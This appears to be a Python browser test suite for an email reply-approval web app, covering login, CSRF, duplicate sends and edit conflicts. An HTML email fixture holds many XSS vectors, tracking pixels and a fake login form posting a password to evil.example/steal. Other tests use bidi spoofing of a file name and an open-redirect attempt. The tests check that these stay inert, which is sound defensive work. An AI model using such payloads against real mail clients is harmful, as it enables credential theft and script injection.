"""The approve-and-send pages in a real Chromium, against real uvicorn, aiosmtpd and Dovecot."""

from __future__ import annotations

import os
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from imapclient import IMAPClient

from classifier.model import Classifier
from service.store import Drafts, MessageRow, Store
from service.web.app import create_app
from service.web.auth import Auth
from tests.servers import Dovecot, free_port, serve_in_thread
from tests.smtp import KeepHandler, SmtpServer
from tests.test_sender import PROFILE, corpus_message, folder_messages, make_settings

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
# screenshots go to docs/ only when asked (scripts/screenshots), so a test run leaves git clean
DOCS = (
    Path(__file__).resolve().parents[2] / "docs"
    if os.environ.get("GM_SCREENSHOTS")
    else Path(tempfile.gettempdir()) / "gracemail-screenshots"
)
PASSWORD = "correct horse battery"
needs_chromium = pytest.mark.skipif(
    not CHROMIUM.exists(),
    reason="browser tests need Debian's chromium at /usr/bin/chromium (apt-get install chromium)",
)

XSS_HTML = """<html><head>
<style>body { display: none } .x { background: url(https://tracker.example/css.png) }</style>
<script>window.__xss = 1; alert(1)</script>
<meta http-equiv="refresh" content="0;url=javascript:window.__xss=11">
<base href="https://evil.example/">
</head><body onload="window.__xss = 2">
<p>Dear Sam, we are pleased to offer you the role of Platform Engineer.</p>
<img src="https://tracker.example/pixel.gif?u=sam" width="1" height="1">
<img src="x" onerror="window.__xss = 3; alert(3)">
<a href="javascript:window.__xss = 4" id="js-link">Click to accept</a>
<a href="https://acme.example/offer">Offer portal</a>
<svg onload="window.__xss = 5"><script>window.__xss = 6</script></svg>
<iframe src="javascript:parent.__xss = 7"></iframe>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red"
     onclick="window.__xss = 8">overlay</div>
<form action="https://evil.example/steal"><input name="password"><button>Log in again</button></form>
<math><mtext><table><mglyph><style><img src=x onerror="window.__xss = 9">
<object data="javascript:window.__xss = 10"></object>
<p style="background-image: url('https://tracker.example/bg.gif')">Best, Dana</p>
</body></html>"""


def xss_message() -> bytes:
    """Return a mail whose HTML, subject and sender name all try to run code."""
    return (
        'From: "<img src=x onerror=window.__xss=13>" <dana@acme.example>\r\n'
        "To: sam@example.org\r\n"
        "Subject: <script>window.__xss=12</script> Your offer\r\n"
        "Message-ID: <xss.1@acme.example>\r\n"
        "Date: Mon, 2 Mar 2026 09:00:00 +0000\r\n"
        "MIME-Version: 1.0\r\n"
        "Content-Type: text/html; charset=utf-8\r\n\r\n" + XSS_HTML
    ).encode()


@dataclass
class Site:
    """A served gracemail with its mail servers and handles into its database."""

    url: str
    app: FastAPI
    store: Store
    sends: Drafts
    smtp: SmtpServer
    dovecot: Dovecot
    user: str

    def message(self, source: str) -> MessageRow:
        """Return the stored message ingested from a corpus file."""
        rows = [m for m in self.store.messages.latest() if m.source == source]
        assert rows, source
        return rows[0]

    def add(self, raw: bytes, source: str) -> MessageRow:
        """Ingest one more message and return it."""
        self.app.state.ingest.handle(raw, folder="INBOX", source=source)
        return self.message(source)


@pytest.fixture
def site(
    classifier: Classifier, tmp_path: Path, mailbox_user: tuple[Dovecot, str]
) -> Iterator[Site]:
    """Serve a gracemail holding an offer, a no, a not-now and a no-reply message."""
    dovecot, user = mailbox_user
    # what the SMTP server accepts lands in the recruiter's IMAP inbox, as in real life
    smtp = SmtpServer(KeepHandler(lmtp_port=dovecot.lmtp_port, lmtp_user="recruiter")).start()
    settings = make_settings(
        smtp.port,
        mailbox_user,
        database_url=f"sqlite:///{tmp_path / 'web.db'}",
        web_password=PASSWORD,
        send_undo_seconds=0,  # these tests send at once; test_mail.py tries the undo window
    )
    app = create_app(settings, classifier)
    app.state.auth.adopt_password(PASSWORD)
    for name in ("hn-0006", "HLP-0016", "hn-0002", "of-0001"):
        app.state.ingest.handle(corpus_message(name), folder="INBOX", source=name)
    port = free_port()
    server, thread = serve_in_thread(app, port)
    yield Site(
        f"http://127.0.0.1:{port}",
        app,
        app.state.store,
        app.state.store.drafts,
        smtp,
        dovecot,
        user,
    )
    server.should_exit = True
    thread.join(10)
    smtp.stop()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """Return a headless Chromium shared by this module's tests."""
    if not CHROMIUM.exists():
        pytest.skip("browser tests need Debian's chromium at /usr/bin/chromium")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield chromium
        chromium.close()


@pytest.fixture
def page(browser: Any, site: Site) -> Iterator[Any]:
    """Return a logged-in page of a fresh browser context."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    log_in(page, site.url)
    yield page
    context.close()


def log_in(page: Any, url: str) -> None:
    """Log in through the form, landing on the inbox."""
    page.goto(url + "/")
    assert "/login" in page.url
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_selector("h1:has-text('Drafts waiting')")


def draft_section(page: Any, kind: str) -> Any:
    """Return the section of the draft of a kind on a message page."""
    return page.locator(f"section.draft[data-kind={kind}]")


def recruiter_has(site: Site, message_id: str) -> bool:
    """Return True when the recruiter's IMAP inbox holds a message with this Message-ID."""
    with IMAPClient("127.0.0.1", port=site.dovecot.imap_port, ssl=False) as client:
        client.login("recruiter", "secret")
        client.select_folder("INBOX", readonly=True)
        return bool(client.search(["HEADER", "Message-ID", message_id]))


# --- without a browser ------------------------------------------------------------------------


def test_pages_and_api_need_a_login(site: Site) -> None:
    with httpx.Client(base_url=site.url) as client:
        assert client.get("/healthz").status_code == 200
        page = client.get("/")
        assert page.status_code == 303 and page.headers["location"].startswith("/login")
        assert client.get("/history").status_code == 303
        body = {"from": "dana@acme.example", "subject": "Offer", "body": "We are pleased to offer"}
        assert client.post("/v1/classify", json=body).status_code == 401
        bad = {"Authorization": "Bearer gm_wrong"}
        assert client.post("/v1/classify", json=body, headers=bad).status_code == 401
        token = site.app.state.auth.new_api_token()
        good = {"Authorization": f"Bearer {token}"}
        assert client.post("/v1/classify", json=body, headers=good).status_code == 200
        assert client.get("/v1/../history", headers=good).status_code in (200, 303, 404)


def test_a_token_replaced_elsewhere_stops_working_soon(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    from service.web import auth as auth_module

    monkeypatch.setattr(auth_module, "TOKEN_RECHECK_SECONDS", 0.3)
    body = {"from": "dana@acme.example", "subject": "Offer", "body": "We are pleased to offer"}
    with httpx.Client(base_url=site.url) as client:
        old = site.app.state.auth.new_api_token()
        headers = {"Authorization": f"Bearer {old}"}
        assert client.post("/v1/classify", json=body, headers=headers).status_code == 200
        # another process (say `gracemail serve --new-token`) replaces it in the shared store
        new = Auth(site.app.state.store.secrets).new_api_token()
        time.sleep(0.4)
        assert client.post("/v1/classify", json=body, headers=headers).status_code == 401
        headers = {"Authorization": f"Bearer {new}"}
        assert client.post("/v1/classify", json=body, headers=headers).status_code == 200


def test_login_sets_a_strict_cookie_and_forms_need_the_csrf_token(site: Site) -> None:
    with httpx.Client(base_url=site.url) as client:
        form = client.get("/login")
        csrf = form.text.split('name="csrf" value="')[1].split('"')[0]
        wrong = client.post("/login", data={"password": "nope", "csrf": csrf})
        assert wrong.status_code == 401
        form = client.get("/login")
        csrf = form.text.split('name="csrf" value="')[1].split('"')[0]
        ok = client.post(
            "/login", data={"password": PASSWORD, "csrf": csrf, "next": "//evil.example"}
        )
        assert ok.status_code == 303 and ok.headers["location"] == "/"
        cookie = ok.headers["set-cookie"].lower()
        assert "httponly" in cookie and "samesite=strict" in cookie
        assert client.get("/").status_code == 200
        draft = site.message("hn-0002").drafts[0]
        forged = client.post(f"/d/{draft.id}", data={"action": "send", "csrf": "forged"})
        assert forged.status_code == 403
        missing = client.post(f"/d/{draft.id}", data={"action": "discard"})
        assert missing.status_code == 403
    assert site.smtp.messages == []
    assert site.store.drafts.get(draft.id).status == "pending"  # type: ignore[union-attr]


# --- in the browser ---------------------------------------------------------------------------


@needs_chromium
def test_edit_approve_and_the_reply_arrives(site: Site, page: Any) -> None:
    DOCS.mkdir(exist_ok=True)
    rows = page.locator("ol.cards li.card")
    assert rows.count() == 4
    assert page.locator("ol.cards").inner_text().count("Offer") >= 1
    page.screenshot(path=str(DOCS / "inbox.png"), full_page=True)
    offer = site.message("of-0001")

    page.click(f"a[href='/m/{offer.id}']")
    accept = draft_section(page, "offer_accept")
    assert draft_section(page, "offer_decline").count() == 1
    text = accept.locator("textarea").input_value()
    accept.locator("textarea").fill(text + "\nP.S. Edited in the browser: see you on the 9th.\n")
    page.screenshot(path=str(DOCS / "message.png"), full_page=True)
    accept.locator("button.send").click()
    page.wait_for_selector("#note:has-text('Sent')")

    [got] = site.smtp.messages
    msg = got.message
    assert msg["Subject"] == "Re: Offer of Employment - Claims Analyst II"
    assert msg["In-Reply-To"] == offer.message_id
    assert offer.message_id in msg["References"]
    assert msg["From"] == f"{PROFILE['name']} <{PROFILE['email']}>"
    assert got.rcpt_tos == [offer.reply_to]
    assert "Edited in the browser: see you on the 9th." in msg.get_content()
    sent = [d for d in site.store.messages.get_by_pk(offer.id).drafts if d.status == "sent"]  # type: ignore[union-attr]
    assert [d.sent_message_id for d in sent] == [msg["Message-ID"]]
    assert recruiter_has(site, msg["Message-ID"])
    copies = folder_messages((site.dovecot, site.user), "Sent")
    assert len(copies) == 1 and msg["Message-ID"].encode() in copies[0]

    page.click("a[href='/history']")
    history = page.locator("ol.history").inner_text()
    assert offer.reply_to in history and "Claims Analyst II" in history
    page.screenshot(path=str(DOCS / "history.png"), full_page=True)
    page.click("a[href='/']")
    assert page.locator(f"a[href='/m/{offer.id}']").count() == 0  # nothing left to do there


@needs_chromium
def test_double_click_and_two_tabs_send_once(site: Site, page: Any) -> None:
    no = site.message("hn-0002")
    page.goto(f"{site.url}/m/{no.id}")
    draft_section(page, "hard_no").locator("button.send").dblclick()
    page.wait_for_selector("#note")
    page.reload()  # a reload after the redirect asks for the page, it does not post again
    assert len(site.smtp.messages) == 1

    later = site.message("HLP-0016")
    other_tab = page.context.new_page()
    page.goto(f"{site.url}/m/{later.id}")
    other_tab.goto(f"{site.url}/m/{later.id}")
    draft_section(page, "not_now").locator("button.send").click()
    page.wait_for_selector("#note:has-text('Sent')")
    draft_section(other_tab, "not_now").locator("button.send").click()
    other_tab.wait_for_selector("#note:has-text('Not sent again')")
    assert len(site.smtp.messages) == 2
    assert {m.message["In-Reply-To"] for m in site.smtp.messages} == {
        no.message_id,
        later.message_id,
    }


@needs_chromium
def test_smtp_down_shows_the_error_and_retry_sends(site: Site, page: Any) -> None:
    site.smtp.stop()
    no = site.message("hn-0002")
    page.goto(f"{site.url}/m/{no.id}")
    draft_section(page, "hard_no").locator("button.send").click()
    page.wait_for_selector("#note:has-text('Not sent')")
    error = draft_section(page, "hard_no").locator(".error").inner_text()
    assert "could not reach the SMTP server" in error
    retry = draft_section(page, "hard_no").locator("button.send")
    assert "Retry" in retry.inner_text()

    site.smtp.start()
    retry.click()
    page.wait_for_selector("#note:has-text('Sent')")
    assert len(site.smtp.messages) == 1
    assert draft_section(page, "hard_no").locator(".error").count() == 0


@needs_chromium
def test_label_change_redrafts_and_is_stored(site: Site, page: Any) -> None:
    no = site.message("hn-0002")
    assert no.label == "hard_no"
    page.goto(f"{site.url}/m/{no.id}")
    page.select_option("form.relabel select", "offer")
    page.click("form.relabel button")
    page.wait_for_selector("#note:has-text('Label changed')")
    assert draft_section(page, "offer_accept").count() == 1
    assert draft_section(page, "offer_decline").count() == 1
    assert draft_section(page, "hard_no").count() == 0
    assert [label for _, label in site.store.messages.corrections()] == ["offer"]
    page.goto(f"{site.url}/?label=offer")
    assert page.locator(f"a[href='/m/{no.id}']").count() == 1
    page.goto(f"{site.url}/?label=hard_no")
    assert page.locator(f"a[href='/m/{no.id}']").count() == 0


@needs_chromium
def test_no_reply_draft_waits_for_an_address(site: Site, page: Any) -> None:
    noreply = site.message("hn-0006")
    page.goto(f"{site.url}/m/{noreply.id}")
    draft = draft_section(page, "hard_no")
    assert "no-reply" in draft.locator(".warn").inner_text()
    assert draft.locator("button.send").is_disabled()
    draft.locator("input.to").fill("hiring.manager@quillfeather.example")
    assert draft.locator("button.send").is_enabled()
    draft.locator("button.send").click()
    page.wait_for_selector("#note:has-text('Sent')")
    [got] = site.smtp.messages
    assert got.rcpt_tos == ["hiring.manager@quillfeather.example"]


@needs_chromium
def test_xss_mail_is_inert(site: Site, page: Any) -> None:
    msg = site.add(xss_message(), "xss")
    dialogs: list[str] = []
    outside: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on(
        "request",
        lambda r: None if r.url.startswith(site.url) else outside.append(r.url),
    )
    page.goto(f"{site.url}/m/{msg.id}")
    page.wait_for_load_state("networkidle")
    mail = page.locator(".mail-html")
    assert "pleased to offer you the role" in mail.inner_text()
    page.mouse.click(640, 450)  # where the full-page overlay would sit
    if page.locator("#js-link").count():
        page.locator("#js-link").click()
    time.sleep(0.3)

    assert page.evaluate("typeof window.__xss") == "undefined"
    assert dialogs == []
    assert outside == []  # no tracking pixel, no remote CSS, no form post
    for selector in ("img", "script", "style", "iframe", "object", "form", "svg", "[style]",
                     "[onerror]", "[onload]", "[onclick]", "a[href^='javascript']", "base", "meta"):  # fmt: skip
        assert mail.locator(selector).count() == 0, selector
    assert page.locator("a[href='https://acme.example/offer']").get_attribute("rel") == (
        "noopener noreferrer nofollow"
    )
    assert "<script>window.__xss=12</script> Your offer" in page.locator("h1").inner_text()
    headers = page.request.get(f"{site.url}/m/{msg.id}").headers
    assert "script-src 'self'" in headers["content-security-policy"]


@needs_chromium
def test_followups_view_offers_one_checkin(site: Site, page: Any) -> None:
    later = site.message("HLP-0016")
    nn = next(d for d in later.drafts if d.kind == "not_now")
    # a check-in counts from the mail's own date, so a corpus mail's may be past: move it ahead
    page.goto(f"{site.url}/m/{later.id}")
    section = draft_section(page, "not_now")
    section.locator("input[name=followup_date]").fill(
        (date.today() + timedelta(days=30)).isoformat()
    )
    section.locator("button[value=save]").click()
    page.wait_for_selector("#note:has-text('Draft saved')")
    page.goto(f"{site.url}/followups")
    assert "Nobody is due" in page.inner_text("main")
    # the user moves the check-in date to yesterday on the message page
    page.goto(f"{site.url}/m/{later.id}")
    section = draft_section(page, "not_now")
    section.locator("input[name=followup_date]").fill(
        (date.today() - timedelta(days=1)).isoformat()
    )
    section.locator("button[value=save]").click()
    page.wait_for_selector("#note:has-text('Draft saved')")
    saved = site.store.drafts.get(nn.id)
    assert saved is not None and saved.followup_date == date.today() - timedelta(days=1)

    page.goto(f"{site.url}/followups")
    checkin = draft_section(page, "followup")
    assert checkin.count() == 1
    page.screenshot(path=str(DOCS / "followups.png"), full_page=True)
    page.reload()
    assert draft_section(page, "followup").count() == 1  # one per contact per period
    draft_section(page, "followup").locator("button.send").click()
    page.wait_for_selector("#note:has-text('Sent')")
    assert "/followups" in page.url
    assert "Nobody is due" in page.inner_text("main")
    [got] = site.smtp.messages
    assert got.message["In-Reply-To"] == later.message_id


def login_client(client: httpx.Client) -> str:
    """Log an httpx client in through the form; return the session's CSRF token for forms."""
    form = client.get("/login")
    csrf = form.text.split('name="csrf" value="')[1].split('"')[0]
    assert client.post("/login", data={"password": PASSWORD, "csrf": csrf}).status_code == 303
    page = client.get("/")
    return page.text.split('name="csrf" value="')[1].split('"')[0]


def test_retrain_button_learns_the_corrections(
    classifier: Classifier, tmp_path: Path, mailbox_user: tuple[Dovecot, str]
) -> None:
    settings = make_settings(
        free_port(),
        database_url=f"sqlite:///{tmp_path / 'web.db'}",
        model_path=tmp_path / "model.skops",  # never the shared test model
        web_password=PASSWORD,
    )
    app = create_app(settings, classifier)
    app.state.auth.adopt_password(PASSWORD)
    app.state.ingest.handle(corpus_message("hn-0002"), folder="INBOX", source="hn-0002")
    server, thread = serve_in_thread(app, port := free_port())
    try:
        with httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=120) as client:
            csrf = login_client(client)
            pk = app.state.store.messages.latest()[0].id
            client.post(f"/m/{pk}/label", data={"label": "not_now", "csrf": csrf})
            started = client.post("/train", data={"csrf": csrf})
            # a full cross-validated retrain; pytest stops a test at 300 s
            deadline = time.monotonic() + 280
            trained = client.get("/train")
            while "Retraining…" in trained.text and time.monotonic() < deadline:
                time.sleep(0.5)
                trained = client.get("/train")
    finally:
        server.should_exit = True
        thread.join(10)
    assert started.status_code == 303 and started.headers["location"] == "/train"
    shown = trained.text.split("<main>")[-1].split("</main>")[0]
    assert trained.status_code == 200 and "Model retrained" in trained.text, shown
    assert "1 label correction(s)" in trained.text
    assert "Cross-validated macro-F1" in trained.text
    assert (tmp_path / "model.skops").exists()
    assert app.state.ingest.classifier is not classifier


def test_serve_refuses_a_public_address_without_tls() -> None:
    from typer.testing import CliRunner

    from service.cli import app

    result = CliRunner().invoke(app, ["serve", "--host", "0.0.0.0"])
    assert result.exit_code == 2
    assert "refusing to serve on 0.0.0.0 without TLS" in result.output


def test_serve_without_a_terminal_asks_for_the_password_setting(classifier: Classifier) -> None:
    from typer.testing import CliRunner

    from service.cli import app

    result = CliRunner().invoke(app, ["serve", "--port", str(free_port())])
    assert result.exit_code == 2
    assert "set GRACEMAIL_WEB_PASSWORD" in result.output


@needs_chromium
def test_plain_text_mail_is_shown_as_text(site: Site, page: Any) -> None:
    raw = (
        b"From: Dana <dana@acme.example>\r\nTo: sam@example.org\r\nSubject: Offer\r\n"
        b"Message-ID: <xss.2@acme.example>\r\n\r\n"
        b"We are pleased to offer you the role.\r\n"
        b'<script>window.__xss = 1</script><img src=x onerror="window.__xss = 2">\r\n'
    )
    msg = site.add(raw, "xss-text")
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(f"{site.url}/m/{msg.id}")
    text = page.locator("pre.mail-text")
    assert "<script>window.__xss = 1</script>" in text.inner_text()
    assert text.locator("script, img").count() == 0
    assert page.evaluate("typeof window.__xss") == "undefined" and dialogs == []


def make_unknown(site: Site, draft_id: int, message_id: str) -> None:
    """Put a draft where an unconfirmed send leaves it: `unknown`, its Message-ID recorded."""
    drafts = site.store.drafts
    assert drafts.move(draft_id, ("pending",), "approved")
    assert drafts.start_sending(draft_id, message_id)
    drafts.mark_data(draft_id)
    assert drafts.finish_unknown(draft_id, "the SMTP server did not confirm it")


@needs_chromium
def test_an_unconfirmed_send_is_sent_again_only_after_an_explicit_confirmation(
    site: Site, page: Any
) -> None:
    no = site.message("hn-0002")
    draft = next(d for d in no.drafts if d.kind == "hard_no")
    make_unknown(site, draft.id, "<unknown.1@example.org>")
    page.goto(f"{site.url}/m/{no.id}")
    section = draft_section(page, "hard_no")
    assert "may have gone out" in section.inner_text()
    assert section.locator("button.send").count() == 0  # no plain approve while in doubt
    page.screenshot(path=str(DOCS / "unknown.png"), full_page=True)

    section.locator("button[value=check]").click()  # looks in Sent and INBOX: not there
    page.wait_for_selector("#note:has-text('Not in your mailbox yet')")
    draft_section(page, "hard_no").locator("button[value=send_again]").click()
    time.sleep(0.3)  # the unticked box stops the form in the browser
    assert "/m/" in page.url and site.smtp.messages == []
    with httpx.Client(base_url=site.url) as client:  # and the server refuses it on its own
        csrf = login_client(client)
        sneaky = client.post(f"/d/{draft.id}", data={"action": "send_again", "csrf": csrf})
        assert sneaky.status_code == 303 and "note=confirm" in sneaky.headers["location"]
    assert site.smtp.messages == []

    section = draft_section(page, "hard_no")
    section.locator("input[name=confirm]").check()
    section.locator("button[value=send_again]").click()
    page.wait_for_selector("#note:has-text('Sent')")
    [got] = site.smtp.messages
    assert got.message["Message-ID"] == "<unknown.1@example.org>"


@needs_chromium
def test_an_unconfirmed_send_found_in_sent_is_settled_from_the_page(site: Site, page: Any) -> None:
    from tests.smtp_faults import file_in_sent

    no = site.message("hn-0002")
    draft = next(d for d in no.drafts if d.kind == "hard_no")
    make_unknown(site, draft.id, "<unknown.2@example.org>")
    raw = b"Message-ID: <unknown.2@example.org>\r\nSubject: Re: x\r\n\r\nThanks.\r\n"
    file_in_sent((site.dovecot, site.user), raw)  # the provider filed it after all
    page.goto(f"{site.url}/m/{no.id}")
    draft_section(page, "hard_no").locator("button[value=check]").click()
    page.wait_for_selector("#note:has-text('Found in your mailbox')")
    assert "found in Sent" in draft_section(page, "hard_no").inner_text()
    assert site.smtp.messages == []


@needs_chromium
def test_two_tabs_editing_one_draft_lose_nothing(site: Site, page: Any) -> None:
    no = site.message("hn-0002")
    other_tab = page.context.new_page()
    page.goto(f"{site.url}/m/{no.id}")
    other_tab.goto(f"{site.url}/m/{no.id}")
    first = draft_section(page, "hard_no")
    first.locator("textarea").fill("Thank you. Written in the first tab.")
    first.locator("button[value=save]").click()
    page.wait_for_selector("#note:has-text('Draft saved')")

    second = draft_section(other_tab, "hard_no")
    second.locator("textarea").fill("Thank you. Written in the second tab.")
    with other_tab.expect_response(lambda r: r.request.method == "POST") as answer:
        second.locator("button.send").click()  # approve and send, from a stale form
    assert answer.value.status == 409
    assert "Written in the first tab." in other_tab.locator("section.saved").inner_text()
    yours = other_tab.locator("section.yours textarea").input_value()
    assert yours == "Thank you. Written in the second tab."
    other_tab.screenshot(path=str(DOCS / "conflict.png"), full_page=True)
    assert site.smtp.messages == []  # a stale form never sends
    saved = site.store.drafts.get(next(d.id for d in no.drafts if d.kind == "hard_no"))
    assert saved is not None and saved.body == "Thank you. Written in the first tab."

    other_tab.locator("button.keep-mine").click()  # the user decides: the second text wins
    other_tab.wait_for_selector("#note:has-text('Draft saved')")
    now = site.store.drafts.get(saved.id)
    assert now is not None and now.body == "Thank you. Written in the second tab."
    bodies = [v.body for v in site.store.drafts.versions_of([saved.id])[saved.id]]
    assert "Thank you. Written in the first tab." in bodies  # the first tab's text is kept too


@needs_chromium
def test_a_redraft_keeps_the_edit_and_the_page_restores_it(site: Site, page: Any) -> None:
    no = site.message("hn-0002")
    page.goto(f"{site.url}/m/{no.id}")
    section = draft_section(page, "hard_no")
    section.locator("textarea").fill("Thank you, Priya. My own words, edited with care.")
    section.locator("button[value=save]").click()
    page.wait_for_selector("#note:has-text('Draft saved')")
    page.select_option("form.relabel select", "hard_no")  # re-draft with the same label
    page.click("form.relabel button")
    page.wait_for_selector("#note:has-text('Label changed')")
    section = draft_section(page, "hard_no")
    assert "My own words" not in section.locator("textarea").input_value()

    section.locator("button.restore").click()
    page.wait_for_selector("#note:has-text('Earlier text restored')")
    restored = draft_section(page, "hard_no").locator("textarea").input_value()
    assert restored == "Thank you, Priya. My own words, edited with care."


@needs_chromium
def test_bidi_controls_in_mail_are_not_shown(site: Site, page: Any) -> None:
    raw = (
        "From: =?utf-8?b?RGFuYSDigK5vc3JlUA==?= <dana@acme.example>\r\n"  # 'Dana \u202eosreP'
        "To: sam@example.org\r\nSubject: =?utf-8?b?T2ZmZXIg4oCuZmRwLmV4ZQ==?=\r\n"  # 'Offer \u202efdp.exe'
        "Message-ID: <bidi.1@acme.example>\r\nDate: Mon, 2 Mar 2026 09:00:00 +0000\r\n"
        "Content-Type: text/plain; charset=utf-8\r\n\r\n"
        "We are pleased to offer you the role. \u202eevil\u202c Shalom \u05e9\u05dc\u05d5\u05dd.\r\n"
    ).encode()
    msg = site.add(raw, "bidi")
    assert "\u202e" in msg.subject  # stored as received: only the page leaves it out
    page.goto(f"{site.url}/m/{msg.id}")
    shown = page.evaluate("document.body.innerText")
    assert "Offer fdp.exe" in shown and "Dana osreP" in shown
    assert not any(c in shown for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    assert "\u05e9\u05dc\u05d5\u05dd" in shown  # right-to-left letters themselves stay
    assert page.locator("h1").get_attribute("dir") == "auto"
    assert page.locator("pre.mail-text").get_attribute("dir") == "auto"
